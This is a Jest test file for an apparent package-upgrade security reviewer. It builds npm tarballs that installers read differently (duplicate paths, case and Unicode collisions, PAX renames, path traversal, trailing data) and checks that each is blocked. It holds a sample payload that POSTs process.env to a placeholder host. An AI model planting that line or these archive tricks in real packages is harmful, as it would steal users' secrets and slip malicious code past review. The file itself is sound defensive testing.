import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { gzipSync } from 'node:zlib';
import type { ArchiveAmbiguity } from '../../src/packages/archive.types.js';
import { tar, tarEntries, tgz, type TarEntry } from '../registry/index.js';
import { npmRepository } from '../app/npm-repository.js';
import { memoryHost, ownAnalyser, startWorld, type World } from '../app/world.js';
import type { Verdict } from '../../src/core/verdict.js';

/** What a stolen release would do, inert: the environment, sent away as soon as the file is loaded. */
const payload = 'fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(process.env) });\n';
const harmless = 'module.exports = 1;\n';
/** What stands in the reading that is not looked at. */
const other = 'module.exports = 0;\n';

let made = 0;
const manifestOf = (version: string): TarEntry => ({ path: 'package/package.json', body: JSON.stringify({ name: `left-${made + 1}`, version, main: 'a.js' }) });
const file = (path: string, body: string): TarEntry => ({ path, body });

/** Archives in which one installer finds `body` as the file that is loaded, and another does not. */
const archives: readonly (readonly [ArchiveAmbiguity, string, (manifest: TarEntry, body: string) => Uint8Array])[] = [
  ['duplicate-path', 'written twice, the last wins', (manifest, body) => tgz([manifest, file('package/a.js', other), file('package/a.js', body)])],
  ['duplicate-path', 'written twice, the first wins', (manifest, body) => tgz([manifest, file('package/a.js', body), file('package/a.js', other)])],
  ['duplicate-path', 'meeting once the first folder is gone', (manifest, body) => tgz([manifest, file('package/a.js', other), file('other/a.js', body)])],
  ['case-collision', 'one file on some machines', (manifest, body) => tgz([manifest, file('package/a.js', other), file('package/A.js', body)])],
  ['normalisation-collision', 'one name on some machines', (manifest, body) => tgz([manifest, file('package/a.js', 'require("./\u00e9.js");\n'), file('package/\u00e9.js', other), file('package/e\u0301.js', body)])],
  ['pax-name-differs', 'the extended header renames it', (manifest, body) => tgz([manifest, { path: 'package/readme.txt', body, pax: { path: 'package/a.js' } }])],
  ['pax-name-differs', 'the extended header hides it', (manifest, body) => tgz([manifest, { path: 'package/a.js', body, pax: { path: 'package/readme.txt' } }])],
  ['several-gzip-members', 'the archive goes on in a second member', (manifest, body) => Buffer.concat([gzipSync(tarEntries([manifest])), gzipSync(tar([file('package/a.js', body)]))])],
  ['data-after-end', 'behind the end marker', (manifest, body) => gzipSync(Buffer.concat([tar([manifest, file('package/a.js', other)]), tar([file('package/a.js', body)])]))],
  ['path-traversal', 'a folder up and down again', (manifest, body) => tgz([manifest, file('package/a.js', other), file('package/../../../a.js', body)])],
  ['absolute-path', 'from the root', (manifest, body) => tgz([manifest, file('package/a.js', 'require("./package/a.js");\n'), file('/package/a.js', body)])],
  ['special-file', 'a type that some unpack as a file', (manifest, body) => tgz([manifest, { ...file('package/a.js', body), type: 'Z' }])],
  ['several-roots', 'in another first folder', (manifest, body) => tgz([manifest, file('second/a.js', body)])],
];

let world: World;
beforeAll(async () => { world = await startWorld([], ownAnalyser()); });
afterAll(() => world.close());

/** A pull request that takes an upgrade of a package with these archives. */
async function judged(before: Uint8Array, after: Uint8Array): Promise<Verdict> {
  const name = `left-${(made += 1)}`;
  const shelf = [{ name, versions: [{ version: '1.0.0', publishedAt: '2026-07-10T00:00:00.000Z', files: {}, tarball: before }, { version: '1.0.1', publishedAt: '2026-11-10T00:00:00.000Z', files: {}, tarball: after }] }];
  world.registry.publish(shelf[0]!);
  const side = (version: string) => npmRepository(shelf, { installed: { [name]: version } });
  return (await world.review(memoryHost(side('1.0.0'), side('1.0.1')))).verdict;
}
const plain = (): Uint8Array => tgz([manifestOf('1.0.0'), file('package/a.js', harmless)]);

describe('an archive that installers read differently', () => {
  test.each(archives)('blocks by itself: %s, %s', async (kind, _how, packed) => {
    const { outcome, findings } = await judged(plain(), packed(manifestOf('1.0.1'), harmless));
    expect(outcome).toBe('block');
    expect(findings.filter((one) => one.check === 'analysis-limit').map((one) => one.data['kind'])).toContain(kind);
  });
  test.each(archives)('hides no payload, though the package was always packed so: %s, %s', async (_kind, _how, packed) => {
    const { outcome, findings } = await judged(packed(manifestOf('1.0.0'), harmless), packed(manifestOf('1.0.1'), payload));
    expect([outcome, findings.map((one) => `${one.check} ${one.severity}`)]).toEqual(['block', expect.arrayContaining(['secret-exfiltration high'])]);
  });
  test('one that all read alike says nothing', async () => {
    const { outcome, findings } = await judged(plain(), tgz([manifestOf('1.0.1'), file('package/a.js', 'module.exports = 2;\n')]));
    expect([outcome, findings.filter(({ level }) => level !== 'audit')]).toEqual(['pass', []]);
  });
});
